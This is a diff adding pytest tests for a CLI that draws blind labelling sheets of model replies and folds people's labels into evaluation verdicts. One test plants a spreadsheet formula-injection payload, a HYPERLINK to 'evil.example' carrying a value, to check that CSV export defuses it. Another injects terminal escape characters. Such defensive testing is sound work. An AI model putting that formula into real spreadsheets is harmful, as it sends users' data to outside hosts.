@@ -1,0 +1,223 @@
+"""Labels, from the draw to the verdict, through the command line."""
+
+from __future__ import annotations
+
+import csv
+import json
+
+import pytest
+from tests.support.project import NEW, OLD, TOTALS, replies_of
+
+NAME = "invoices/total-right"
+
+
+def rows_of(path):
+    return [json.loads(line) for line in path.read_text().splitlines()]
+
+
+def draw(project, count=10, seed=7, out="sheet.jsonl", *more):
+    return project("label", "draw", NAME, "--n", str(count), "--seed", str(seed), "--out", out, *more)
+
+
+def filled(project, label, name="sheet.jsonl", upto=None):
+    rows = rows_of(project.root / name)
+    for row in rows[:upto]:
+        row["label"] = label(row) if callable(label) else label
+    return project.lines("filled.jsonl", rows)
+
+
+def take(project, path, *more):
+    return project("label", "take", str(path), "--as", "Ada Ruiz", *more)
+
+
+def right(row):
+    return "pass" if json.loads(row["reply"])["total"] == json.loads(row["given"])["reference"] else "fail"
+
+
+@pytest.fixture
+def drawn(asked):
+    assert draw(asked).code == 0
+    return asked
+
+
+def test_a_sheet_is_blind_to_the_version_and_says_what_to_judge(project):
+    project.bring(OLD, replies_of())
+    project.bring(NEW, replies_of('{{"total": {0}, "new": true}}'))
+    said = draw(project, 200)
+    assert said.code == 0
+    assert "60 replies of model-6.1 on app" in said.out
+    text = (project.root / "sheet.jsonl").read_text()
+    assert OLD not in text and NEW not in text  # noqa: PT018 - one thought
+    rows = rows_of(project.root / "sheet.jsonl")
+    assert len(rows) == 120
+    assert {row["label"] for row in rows} == {""}
+    assert [row["row"] for row in rows] == list(range(1, 121))
+    news = ['"new"' in row["reply"] for row in rows]
+    assert 20 < sum(news[:60]) < 40  # mixed
+    assert "The total equals" in rows[0]["claim"]
+
+
+def test_the_same_seed_draws_the_same_replies_and_another_one_others(drawn):
+    first = [row["reply"] for row in rows_of(drawn.root / "sheet.jsonl")]
+    draw(drawn, 10, 7, "again.jsonl")
+    assert [row["reply"] for row in rows_of(drawn.root / "again.jsonl")] == first
+    draw(drawn, 10, 8, "other.jsonl")
+    assert [row["reply"] for row in rows_of(drawn.root / "other.jsonl")] != first
+
+
+def test_what_is_labelled_is_not_drawn_again(drawn):
+    assert take(drawn, filled(drawn, "pass")).out.startswith("10 labels taken for invoices/total-right")
+    draw(drawn, 200, 7, "rest.jsonl")
+    rest = {row["reply"] for row in rows_of(drawn.root / "rest.jsonl")}
+    assert len(rest) == 50  # equal words of both versions are one reply
+    assert rest.isdisjoint(row["reply"] for row in rows_of(drawn.root / "sheet.jsonl"))
+    take(drawn, filled(drawn, "pass", "rest.jsonl"))
+    said = draw(drawn, 5, 9, "more.jsonl")
+    assert (said.code, "nothing of invoices/total-right is left to label" in said.err) == (2, True)
+
+
+def test_a_sheet_that_exists_is_not_overwritten(drawn):
+    said = draw(drawn)
+    assert (said.code, "exists already" in said.err) == (2, True)
+
+
+def test_taking_a_sheet_again_changes_nothing(drawn):
+    path = filled(drawn, "pass", upto=6)
+    said = take(drawn, path)
+    assert "6 labels taken" in said.out
+    assert "4 still empty" in said.out
+    held = (drawn.root / "labels/invoices/total-right.jsonl").read_bytes()
+    said = take(drawn, path)
+    assert "No label is new." in said.out
+    assert "6 known already" in said.out
+    assert (drawn.root / "labels/invoices/total-right.jsonl").read_bytes() == held
+
+
+def test_a_label_that_says_something_else_needs_to_be_asked_for(drawn):
+    take(drawn, filled(drawn, "pass", upto=3))
+    path = filled(drawn, "fail", upto=3)
+    said = take(drawn, path)
+    assert said.code == 2
+    assert "filled.jsonl:1" in said.err
+    assert "Ada Ruiz said `pass` of this reply" in said.err
+    said = take(drawn, path, "--replace")
+    assert "3 replaced" in said.out
+
+
+def test_every_wrong_line_is_named_and_none_is_taken(drawn):
+    rows = rows_of(drawn.root / "sheet.jsonl")
+    rows[0]["label"] = "good"
+    rows[1]["draw"] = "0000"
+    rows[2]["row"] = 99
+    rows[3]["assertion"] = "invoices/total-rigth"
+    rows[4]["assertion"] = "total-right"
+    rows[6]["label"] = "pass"
+    rows[7]["row"] = 9
+    said = take(drawn, drawn.lines("filled.jsonl", rows))
+    assert said.code == 2
+    for line, words in (
+        (1, "`label` is 'good'"),
+        (2, "is not known here"),
+        (3, "row 99 of draw"),
+        (4, "has no assertion"),
+        (5, "write SUITE/ASSERTION"),
+        (6, "row 6 has no label, and a later one has"),
+        (9, "row 9 stands here twice"),
+    ):
+        assert f"filled.jsonl:{line}:" in said.err, line
+        assert words in said.err, words
+    assert not (drawn.root / "labels/invoices/total-right.jsonl").exists()
+
+
+def test_csv_for_spreadsheets_is_harmless_and_comes_back(project):
+    project.bring(OLD, {probe: f'=HYPERLINK("http://evil.example?{total}")' for probe, total in TOTALS.items()})
+    assert draw(project, 5, 7, "sheet.csv").code == 0
+    with (project.root / "sheet.csv").open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert all(row["reply"].startswith("'=") for row in rows)
+    with (project.root / "filled.csv").open("w", newline="") as file:
+        writer = csv.DictWriter(file, rows[0], delimiter=";")
+        writer.writeheader()
+        writer.writerows([{**row, "label": " Fail "} for row in reversed(rows)])
+    assert "5 labels taken" in take(project, project.root / "filled.csv").out
+
+
+def test_a_chosen_reply_is_labelled_by_its_text(asked):
+    probe, total = next(iter(TOTALS.items()))
+    row = {"assertion": NAME, "probe": probe, "reply": f'{{"total": {total}}}', "label": "fail"}
+    assert take(asked, asked.lines("chosen.jsonl", [row])).code == 0
+    assert '"drawn": "chosen"' in (asked.root / "labels/invoices/total-right.jsonl").read_text()
+    found = asked("diff", "--json").document["assertions"][0]["new"]
+    assert (found["passes"], found["voids"]) == (59, {"agreement": 1})
+    assert found["labels"]["drawn"] == 0
+    row["probe"] = "inv-99"
+    assert "has no probe" in take(asked, asked.lines("chosen.jsonl", [row])).err
+
+
+def test_people_settle_what_the_check_cannot_read(project):
+    project.bring(OLD, replies_of())
+    project.bring(NEW, replies_of("The total is {0}."))
+    assert project("diff", "--json").document["assertions"][0]["new"]["verdict"]["name"] == "invalid"
+    draw(project, 60, 3, "sheet.jsonl", "--model", NEW)
+    take(project, filled(project, "pass"))
+    found = project("diff", "--json").document["assertions"][0]["new"]
+    assert (found["verdict"]["name"], found["passes"]) == ("holds", 60)
+
+
+def test_a_random_sample_takes_back_a_verdict_that_people_contradict(project):
+    """The check passes all sixty; people, shown thirty of them, fail half."""
+    project.bring(OLD, replies_of('{{"total": {0}, "old": true}}'))
+    project.bring(NEW, replies_of())
+    draw(project, 30, 3, "sheet.jsonl", "--model", NEW)
+    assert project("diff").code == 0
+    said = take(project, filled(project, lambda row: "pass" if row["row"] % 2 else "fail"))
+    assert "30 labels" in said.out
+    found = project("diff", "--json").document["assertions"][0]
+    assert found["old"]["labels"] is None
+    labels = found["new"]["labels"]
+    assert (labels["replies"], labels["drawn"], labels["false_passes"], labels["passes_checked"]) == (60, 30, 15, 30)
+    assert labels["corrected"] == [0.5, 0.5]
+    assert labels["alarm_bounds"][1] < 0.9
+    why = project("diff", "--why", NAME)
+    assert "15 of 30 passes are a person's fail" in why.out
+    assert "rate corrected by them 0.500" in why.out
+    # the fifteen are void by themselves, so that nothing holds; the block is tested where they are not
+    assert found["new"]["verdict"]["name"] == "invalid"
+
+
+def test_a_damaged_file_of_labels_is_named_by_line(drawn):
+    take(drawn, filled(drawn, "pass"))
+    path = drawn.root / "labels/invoices/total-right.jsonl"
+    path.write_text(path.read_text() + '{"probe": 1}\n<<<<<<< HEAD\n')
+    said = drawn("diff")
+    assert said.code == 2
+    assert "labels/invoices/total-right.jsonl:11" in said.err
+    assert "labels/invoices/total-right.jsonl:12" in said.err
+
+
+@pytest.mark.parametrize(
+    ("arguments", "words"),
+    [
+        (("draw", "invoices", "--n", "3"), "write SUITE/ASSERTION"),
+        (("draw", "invoices/total-rigt", "--n", "3"), "did you mean `total-right`"),
+        (("draw", "nope/x", "--n", "3"), "there is no suite"),
+        (("draw", NAME, "--n", "0"), "draw at least one"),
+        (("draw", NAME, "--n", "3", "--model", "model-9"), "no reply of 'model-9'"),
+    ],
+)
+def test_what_cannot_be_drawn(asked, arguments, words):
+    said = asked("label", *arguments, "--seed", "1", "--out", "sheet.jsonl")
+    assert (said.code, words in said.err) == (2, True), said.err
+    assert not (asked.root / "sheet.jsonl").exists()
+
+
+def test_nothing_is_stored_yet(project):
+    said = draw(project)
+    assert (said.code, "no reply to invoices is stored" in said.err) == (2, True)
+
+
+def test_hostile_replies_reach_no_terminal(project):
+    project.bring(OLD, dict.fromkeys(TOTALS, "\x1b[31m\u202e\x00"))
+    draw(project, 3)
+    take(project, filled(project, "fail"))
+    draw(project, 3, 8, "sheet.csv")
